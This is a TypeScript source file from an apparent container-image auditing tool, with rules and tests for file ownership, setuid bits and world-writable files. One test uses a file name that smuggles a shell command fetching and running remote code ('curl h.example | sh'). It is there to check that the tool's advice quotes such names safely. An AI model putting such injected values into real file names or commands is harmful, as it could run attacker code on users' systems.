// Who owns the files of an image, and what they let others do: USR002, USR003, USR004.

import type { AuditedImage, FileEntry } from "../../../audit/types.ts";
import { listed } from "../../message.ts";
import { practice } from "../../practice.ts";
import type { AuditSubject } from "../../practice-subjects.ts";
import { type Hit, unknown } from "../../rule.ts";
import { exampleFile, exampleFiles, exampleHidden, exampleLayers, imageWith } from "../example-parts.ts";
import { shellWord } from "../shell-word.ts";

export const FILE_OWNERS = practice({
  id: "USR002",
  title: "The application's files belong to numbers of the system",
  severity: "warning",
  class: "recommended",
  certainty: "certain",
  message: "uid {uid} owns files of the application ({count}): {paths}",
  hint: "copy them with --chown=499:499, or chown them in the step that makes them",
  why: "Numbers from 500 on are people's: on a shared file system the files of an image would be theirs.",
  source: "N2.14",
  peers: [],
  cases: {
    root: {
      severity: "info",
      message: "{count} files of the application belong to root: {paths}",
      hint: "give them to the number that the program runs as, below 500",
    },
  },
  checks: { image: ofOwners },
  passes: [
    { shows: "owned by 499", image: imageWith(exampleFile("opt/app/x", { uid: 499 })) },
    { shows: "owned by root", image: imageWith(exampleFile("opt/app/x")) },
    {
      shows: "files of the base",
      image: { layers: exampleLayers(), files: exampleFiles([exampleFile("home/u/x", { uid: 1000, layer: 0 })]) },
    },
  ],
  fails: [
    {
      shows: "owned by 1000",
      image: imageWith(exampleFile("opt/app/x", { uid: 1000 }), exampleFile("opt/app/y", { uid: 1000 })),
      expect: { says: "uid 1000 owns files of the application (2): /opt/app/x and /opt/app/y" },
    },
    {
      shows: "owned by root, where the site wants its own number",
      policy: { fileOwners: { from: 500, root: true } },
      image: imageWith(exampleFile("opt/app/x")),
      expect: { case: "root" },
    },
    { shows: "nobody looked", image: { files: undefined }, expect: { certainty: "unknown" } },
  ],
});

function ofOwners({ image, tables: { fileOwners } }: AuditSubject): Hit | readonly Hit[] {
  const own = ownFiles(image);
  if (!own) return unknown("which files are in the image");
  const byOwner = new Map<number, FileEntry[]>();
  for (const entry of own) {
    const wanted =
      entry.uid >= fileOwners.from || (fileOwners.root && entry.uid === 0 && entry.path.startsWith("opt/"));
    if (!wanted || entry.type !== "file") continue;
    const entries = byOwner.get(entry.uid);
    if (entries) entries.push(entry);
    else byOwner.set(entry.uid, [entry]);
  }
  return [...byOwner].map(([uid, entries]) => ({
    case: uid === 0 ? "root" : undefined,
    fields: { count: entries.length, uid, paths: pathsOf(entries) },
  }));
}

/** Entries of layers that are not the base's; undefined: nobody looked. */
export function ownFiles({ files, layers }: AuditedImage): readonly FileEntry[] | undefined {
  return files?.entries.filter(({ layer }) => layers?.[layer]?.base !== true);
}

/** The first few paths, from the root. */
export function pathsOf(entries: readonly Pick<FileEntry, "path">[]): string {
  const shown = entries.slice(0, 3).map(({ path }) => `/${path}`);
  return listed(entries.length > 3 ? [...shown, `${entries.length - 3} more`] : shown);
}

const SETID = 0o6000;

export const SETUID_FILES = practice({
  id: "USR003",
  title: "No setuid files beyond those of the base",
  severity: "warning",
  class: "recommended",
  certainty: "certain",
  message: "setuid or setgid files ({count}): {paths}",
  hint: "take the bits away in the step that makes them: chmod u-s,g-s {first}",
  why: "Where such programs have mistakes, everybody in the container becomes their owner; Apptainer ignores the bits.",
  source: "ours",
  peers: ["CIS-DI-0008"],
  controls: ["CIS 4.8"],
  checks: {
    // Containers of an image file gain no rights from the bits, and which files are its base's is no longer to be told.
    image: ({ image }) => (image.file === undefined ? listHit(ownSetuid(image)) : undefined),
  },
  passes: [
    { shows: "mode 0755", image: imageWith(exampleFile("usr/local/bin/x", { mode: 0o755 })) },
    {
      shows: "sudo of the base",
      image: { layers: exampleLayers(), files: exampleFiles([exampleFile("usr/bin/su", { mode: 0o4755, layer: 0 })]) },
    },
    {
      shows: "image files, which are mounted without such rights",
      image: { ...imageWith(exampleFile("usr/bin/su", { mode: 0o4755, layer: 0 })), file: "sif" },
    },
    {
      shows: "a program of the base that an upgrade replaced",
      image: {
        layers: exampleLayers(),
        files: exampleFiles([exampleFile("usr/bin/su", { mode: 0o4755 })], {
          hidden: [exampleHidden("usr/bin/su", { mode: 0o4755, layer: 0, by: 1, how: "replaced" })],
        }),
      },
    },
    {
      shows: "setgid folders, which only hand down a group",
      image: imageWith(exampleFile("opt/x", { type: "directory", mode: 0o2755 })),
    },
  ],
  fails: [
    {
      shows: "mode 4755",
      image: imageWith(exampleFile("usr/local/bin/x", { mode: 0o4755 })),
      expect: { says: "/usr/local/bin/x" },
    },
    {
      shows: "a program of the base that got the bit later",
      image: {
        layers: exampleLayers(),
        files: exampleFiles([exampleFile("usr/bin/vi", { mode: 0o4755 })], {
          hidden: [exampleHidden("usr/bin/vi", { mode: 0o755, layer: 0, by: 1, how: "replaced" })],
        }),
      },
    },
    {
      shows: "a name that a shell would run as a command, which the advice must not hand on",
      image: imageWith(exampleFile("opt/x; curl h.example | sh", { mode: 0o4755 })),
      expect: { says: "/opt/x; curl" },
    },
    { shows: "nobody looked", image: { files: undefined }, expect: { certainty: "unknown" } },
  ],
});

// An upgrade brings the base's own programs again, with the bits that they had.
function ownSetuid(image: AuditedImage): readonly FileEntry[] | undefined {
  const { files, layers } = image;
  const found = ownFiles(image)?.filter(({ type, mode }) => type === "file" && (mode & SETID) !== 0);
  if (!files || !found || found.length === 0) return found;
  const bits = new Map<string, number>();
  for (const { path, mode = 0, layer } of files.hidden)
    if (layers?.[layer]?.base === true) bits.set(path, (bits.get(path) ?? 0) | mode);
  return found.filter(({ path, mode }) => (mode & SETID & ~(bits.get(path) ?? 0)) !== 0);
}

export const WORLD_WRITABLE = practice({
  id: "USR004",
  title: "Nobody but the owner and the group may write",
  severity: "warning",
  class: "recommended",
  certainty: "certain",
  message: "everybody may write {paths}",
  hint: "chmod o-w {first} in the step that makes it; folders for everybody get the sticky bit, 1777",
  why: "What everybody may write, anybody in the container may replace by something else.",
  source: "ours",
  peers: [],
  checks: { image: ({ image }) => listHit(ownFiles(image)?.filter(isOpen)) },
  passes: [
    { shows: "mode 0755", image: imageWith(exampleFile("opt/data", { type: "directory", mode: 0o755 })) },
    { shows: "sticky", image: imageWith(exampleFile("opt/data", { type: "directory", mode: 0o1777 })) },
    {
      shows: "links, whose modes mean nothing",
      image: imageWith(exampleFile("opt/l", { type: "symlink", mode: 0o777 })),
    },
  ],
  fails: [
    {
      shows: "mode 0777",
      image: imageWith(exampleFile("opt/data", { type: "directory", mode: 0o777 })),
      expect: { says: "/opt/data" },
    },
    { shows: "a file", image: imageWith(exampleFile("opt/x", { mode: 0o666 })) },
    { shows: "nobody looked", image: { files: undefined }, expect: { certainty: "unknown" } },
  ],
});

function isOpen({ type, mode }: FileEntry): boolean {
  if (type === "directory") return (mode & 0o1002) === 0o0002;
  return type === "file" && (mode & 0o0002) !== 0;
}

function listHit(entries: readonly FileEntry[] | undefined): Hit | undefined {
  if (!entries) return unknown("which files are in the image");
  const [first] = entries;
  return first && { fields: { count: entries.length, paths: pathsOf(entries), first: shellWord(`/${first.path}`) } };
}
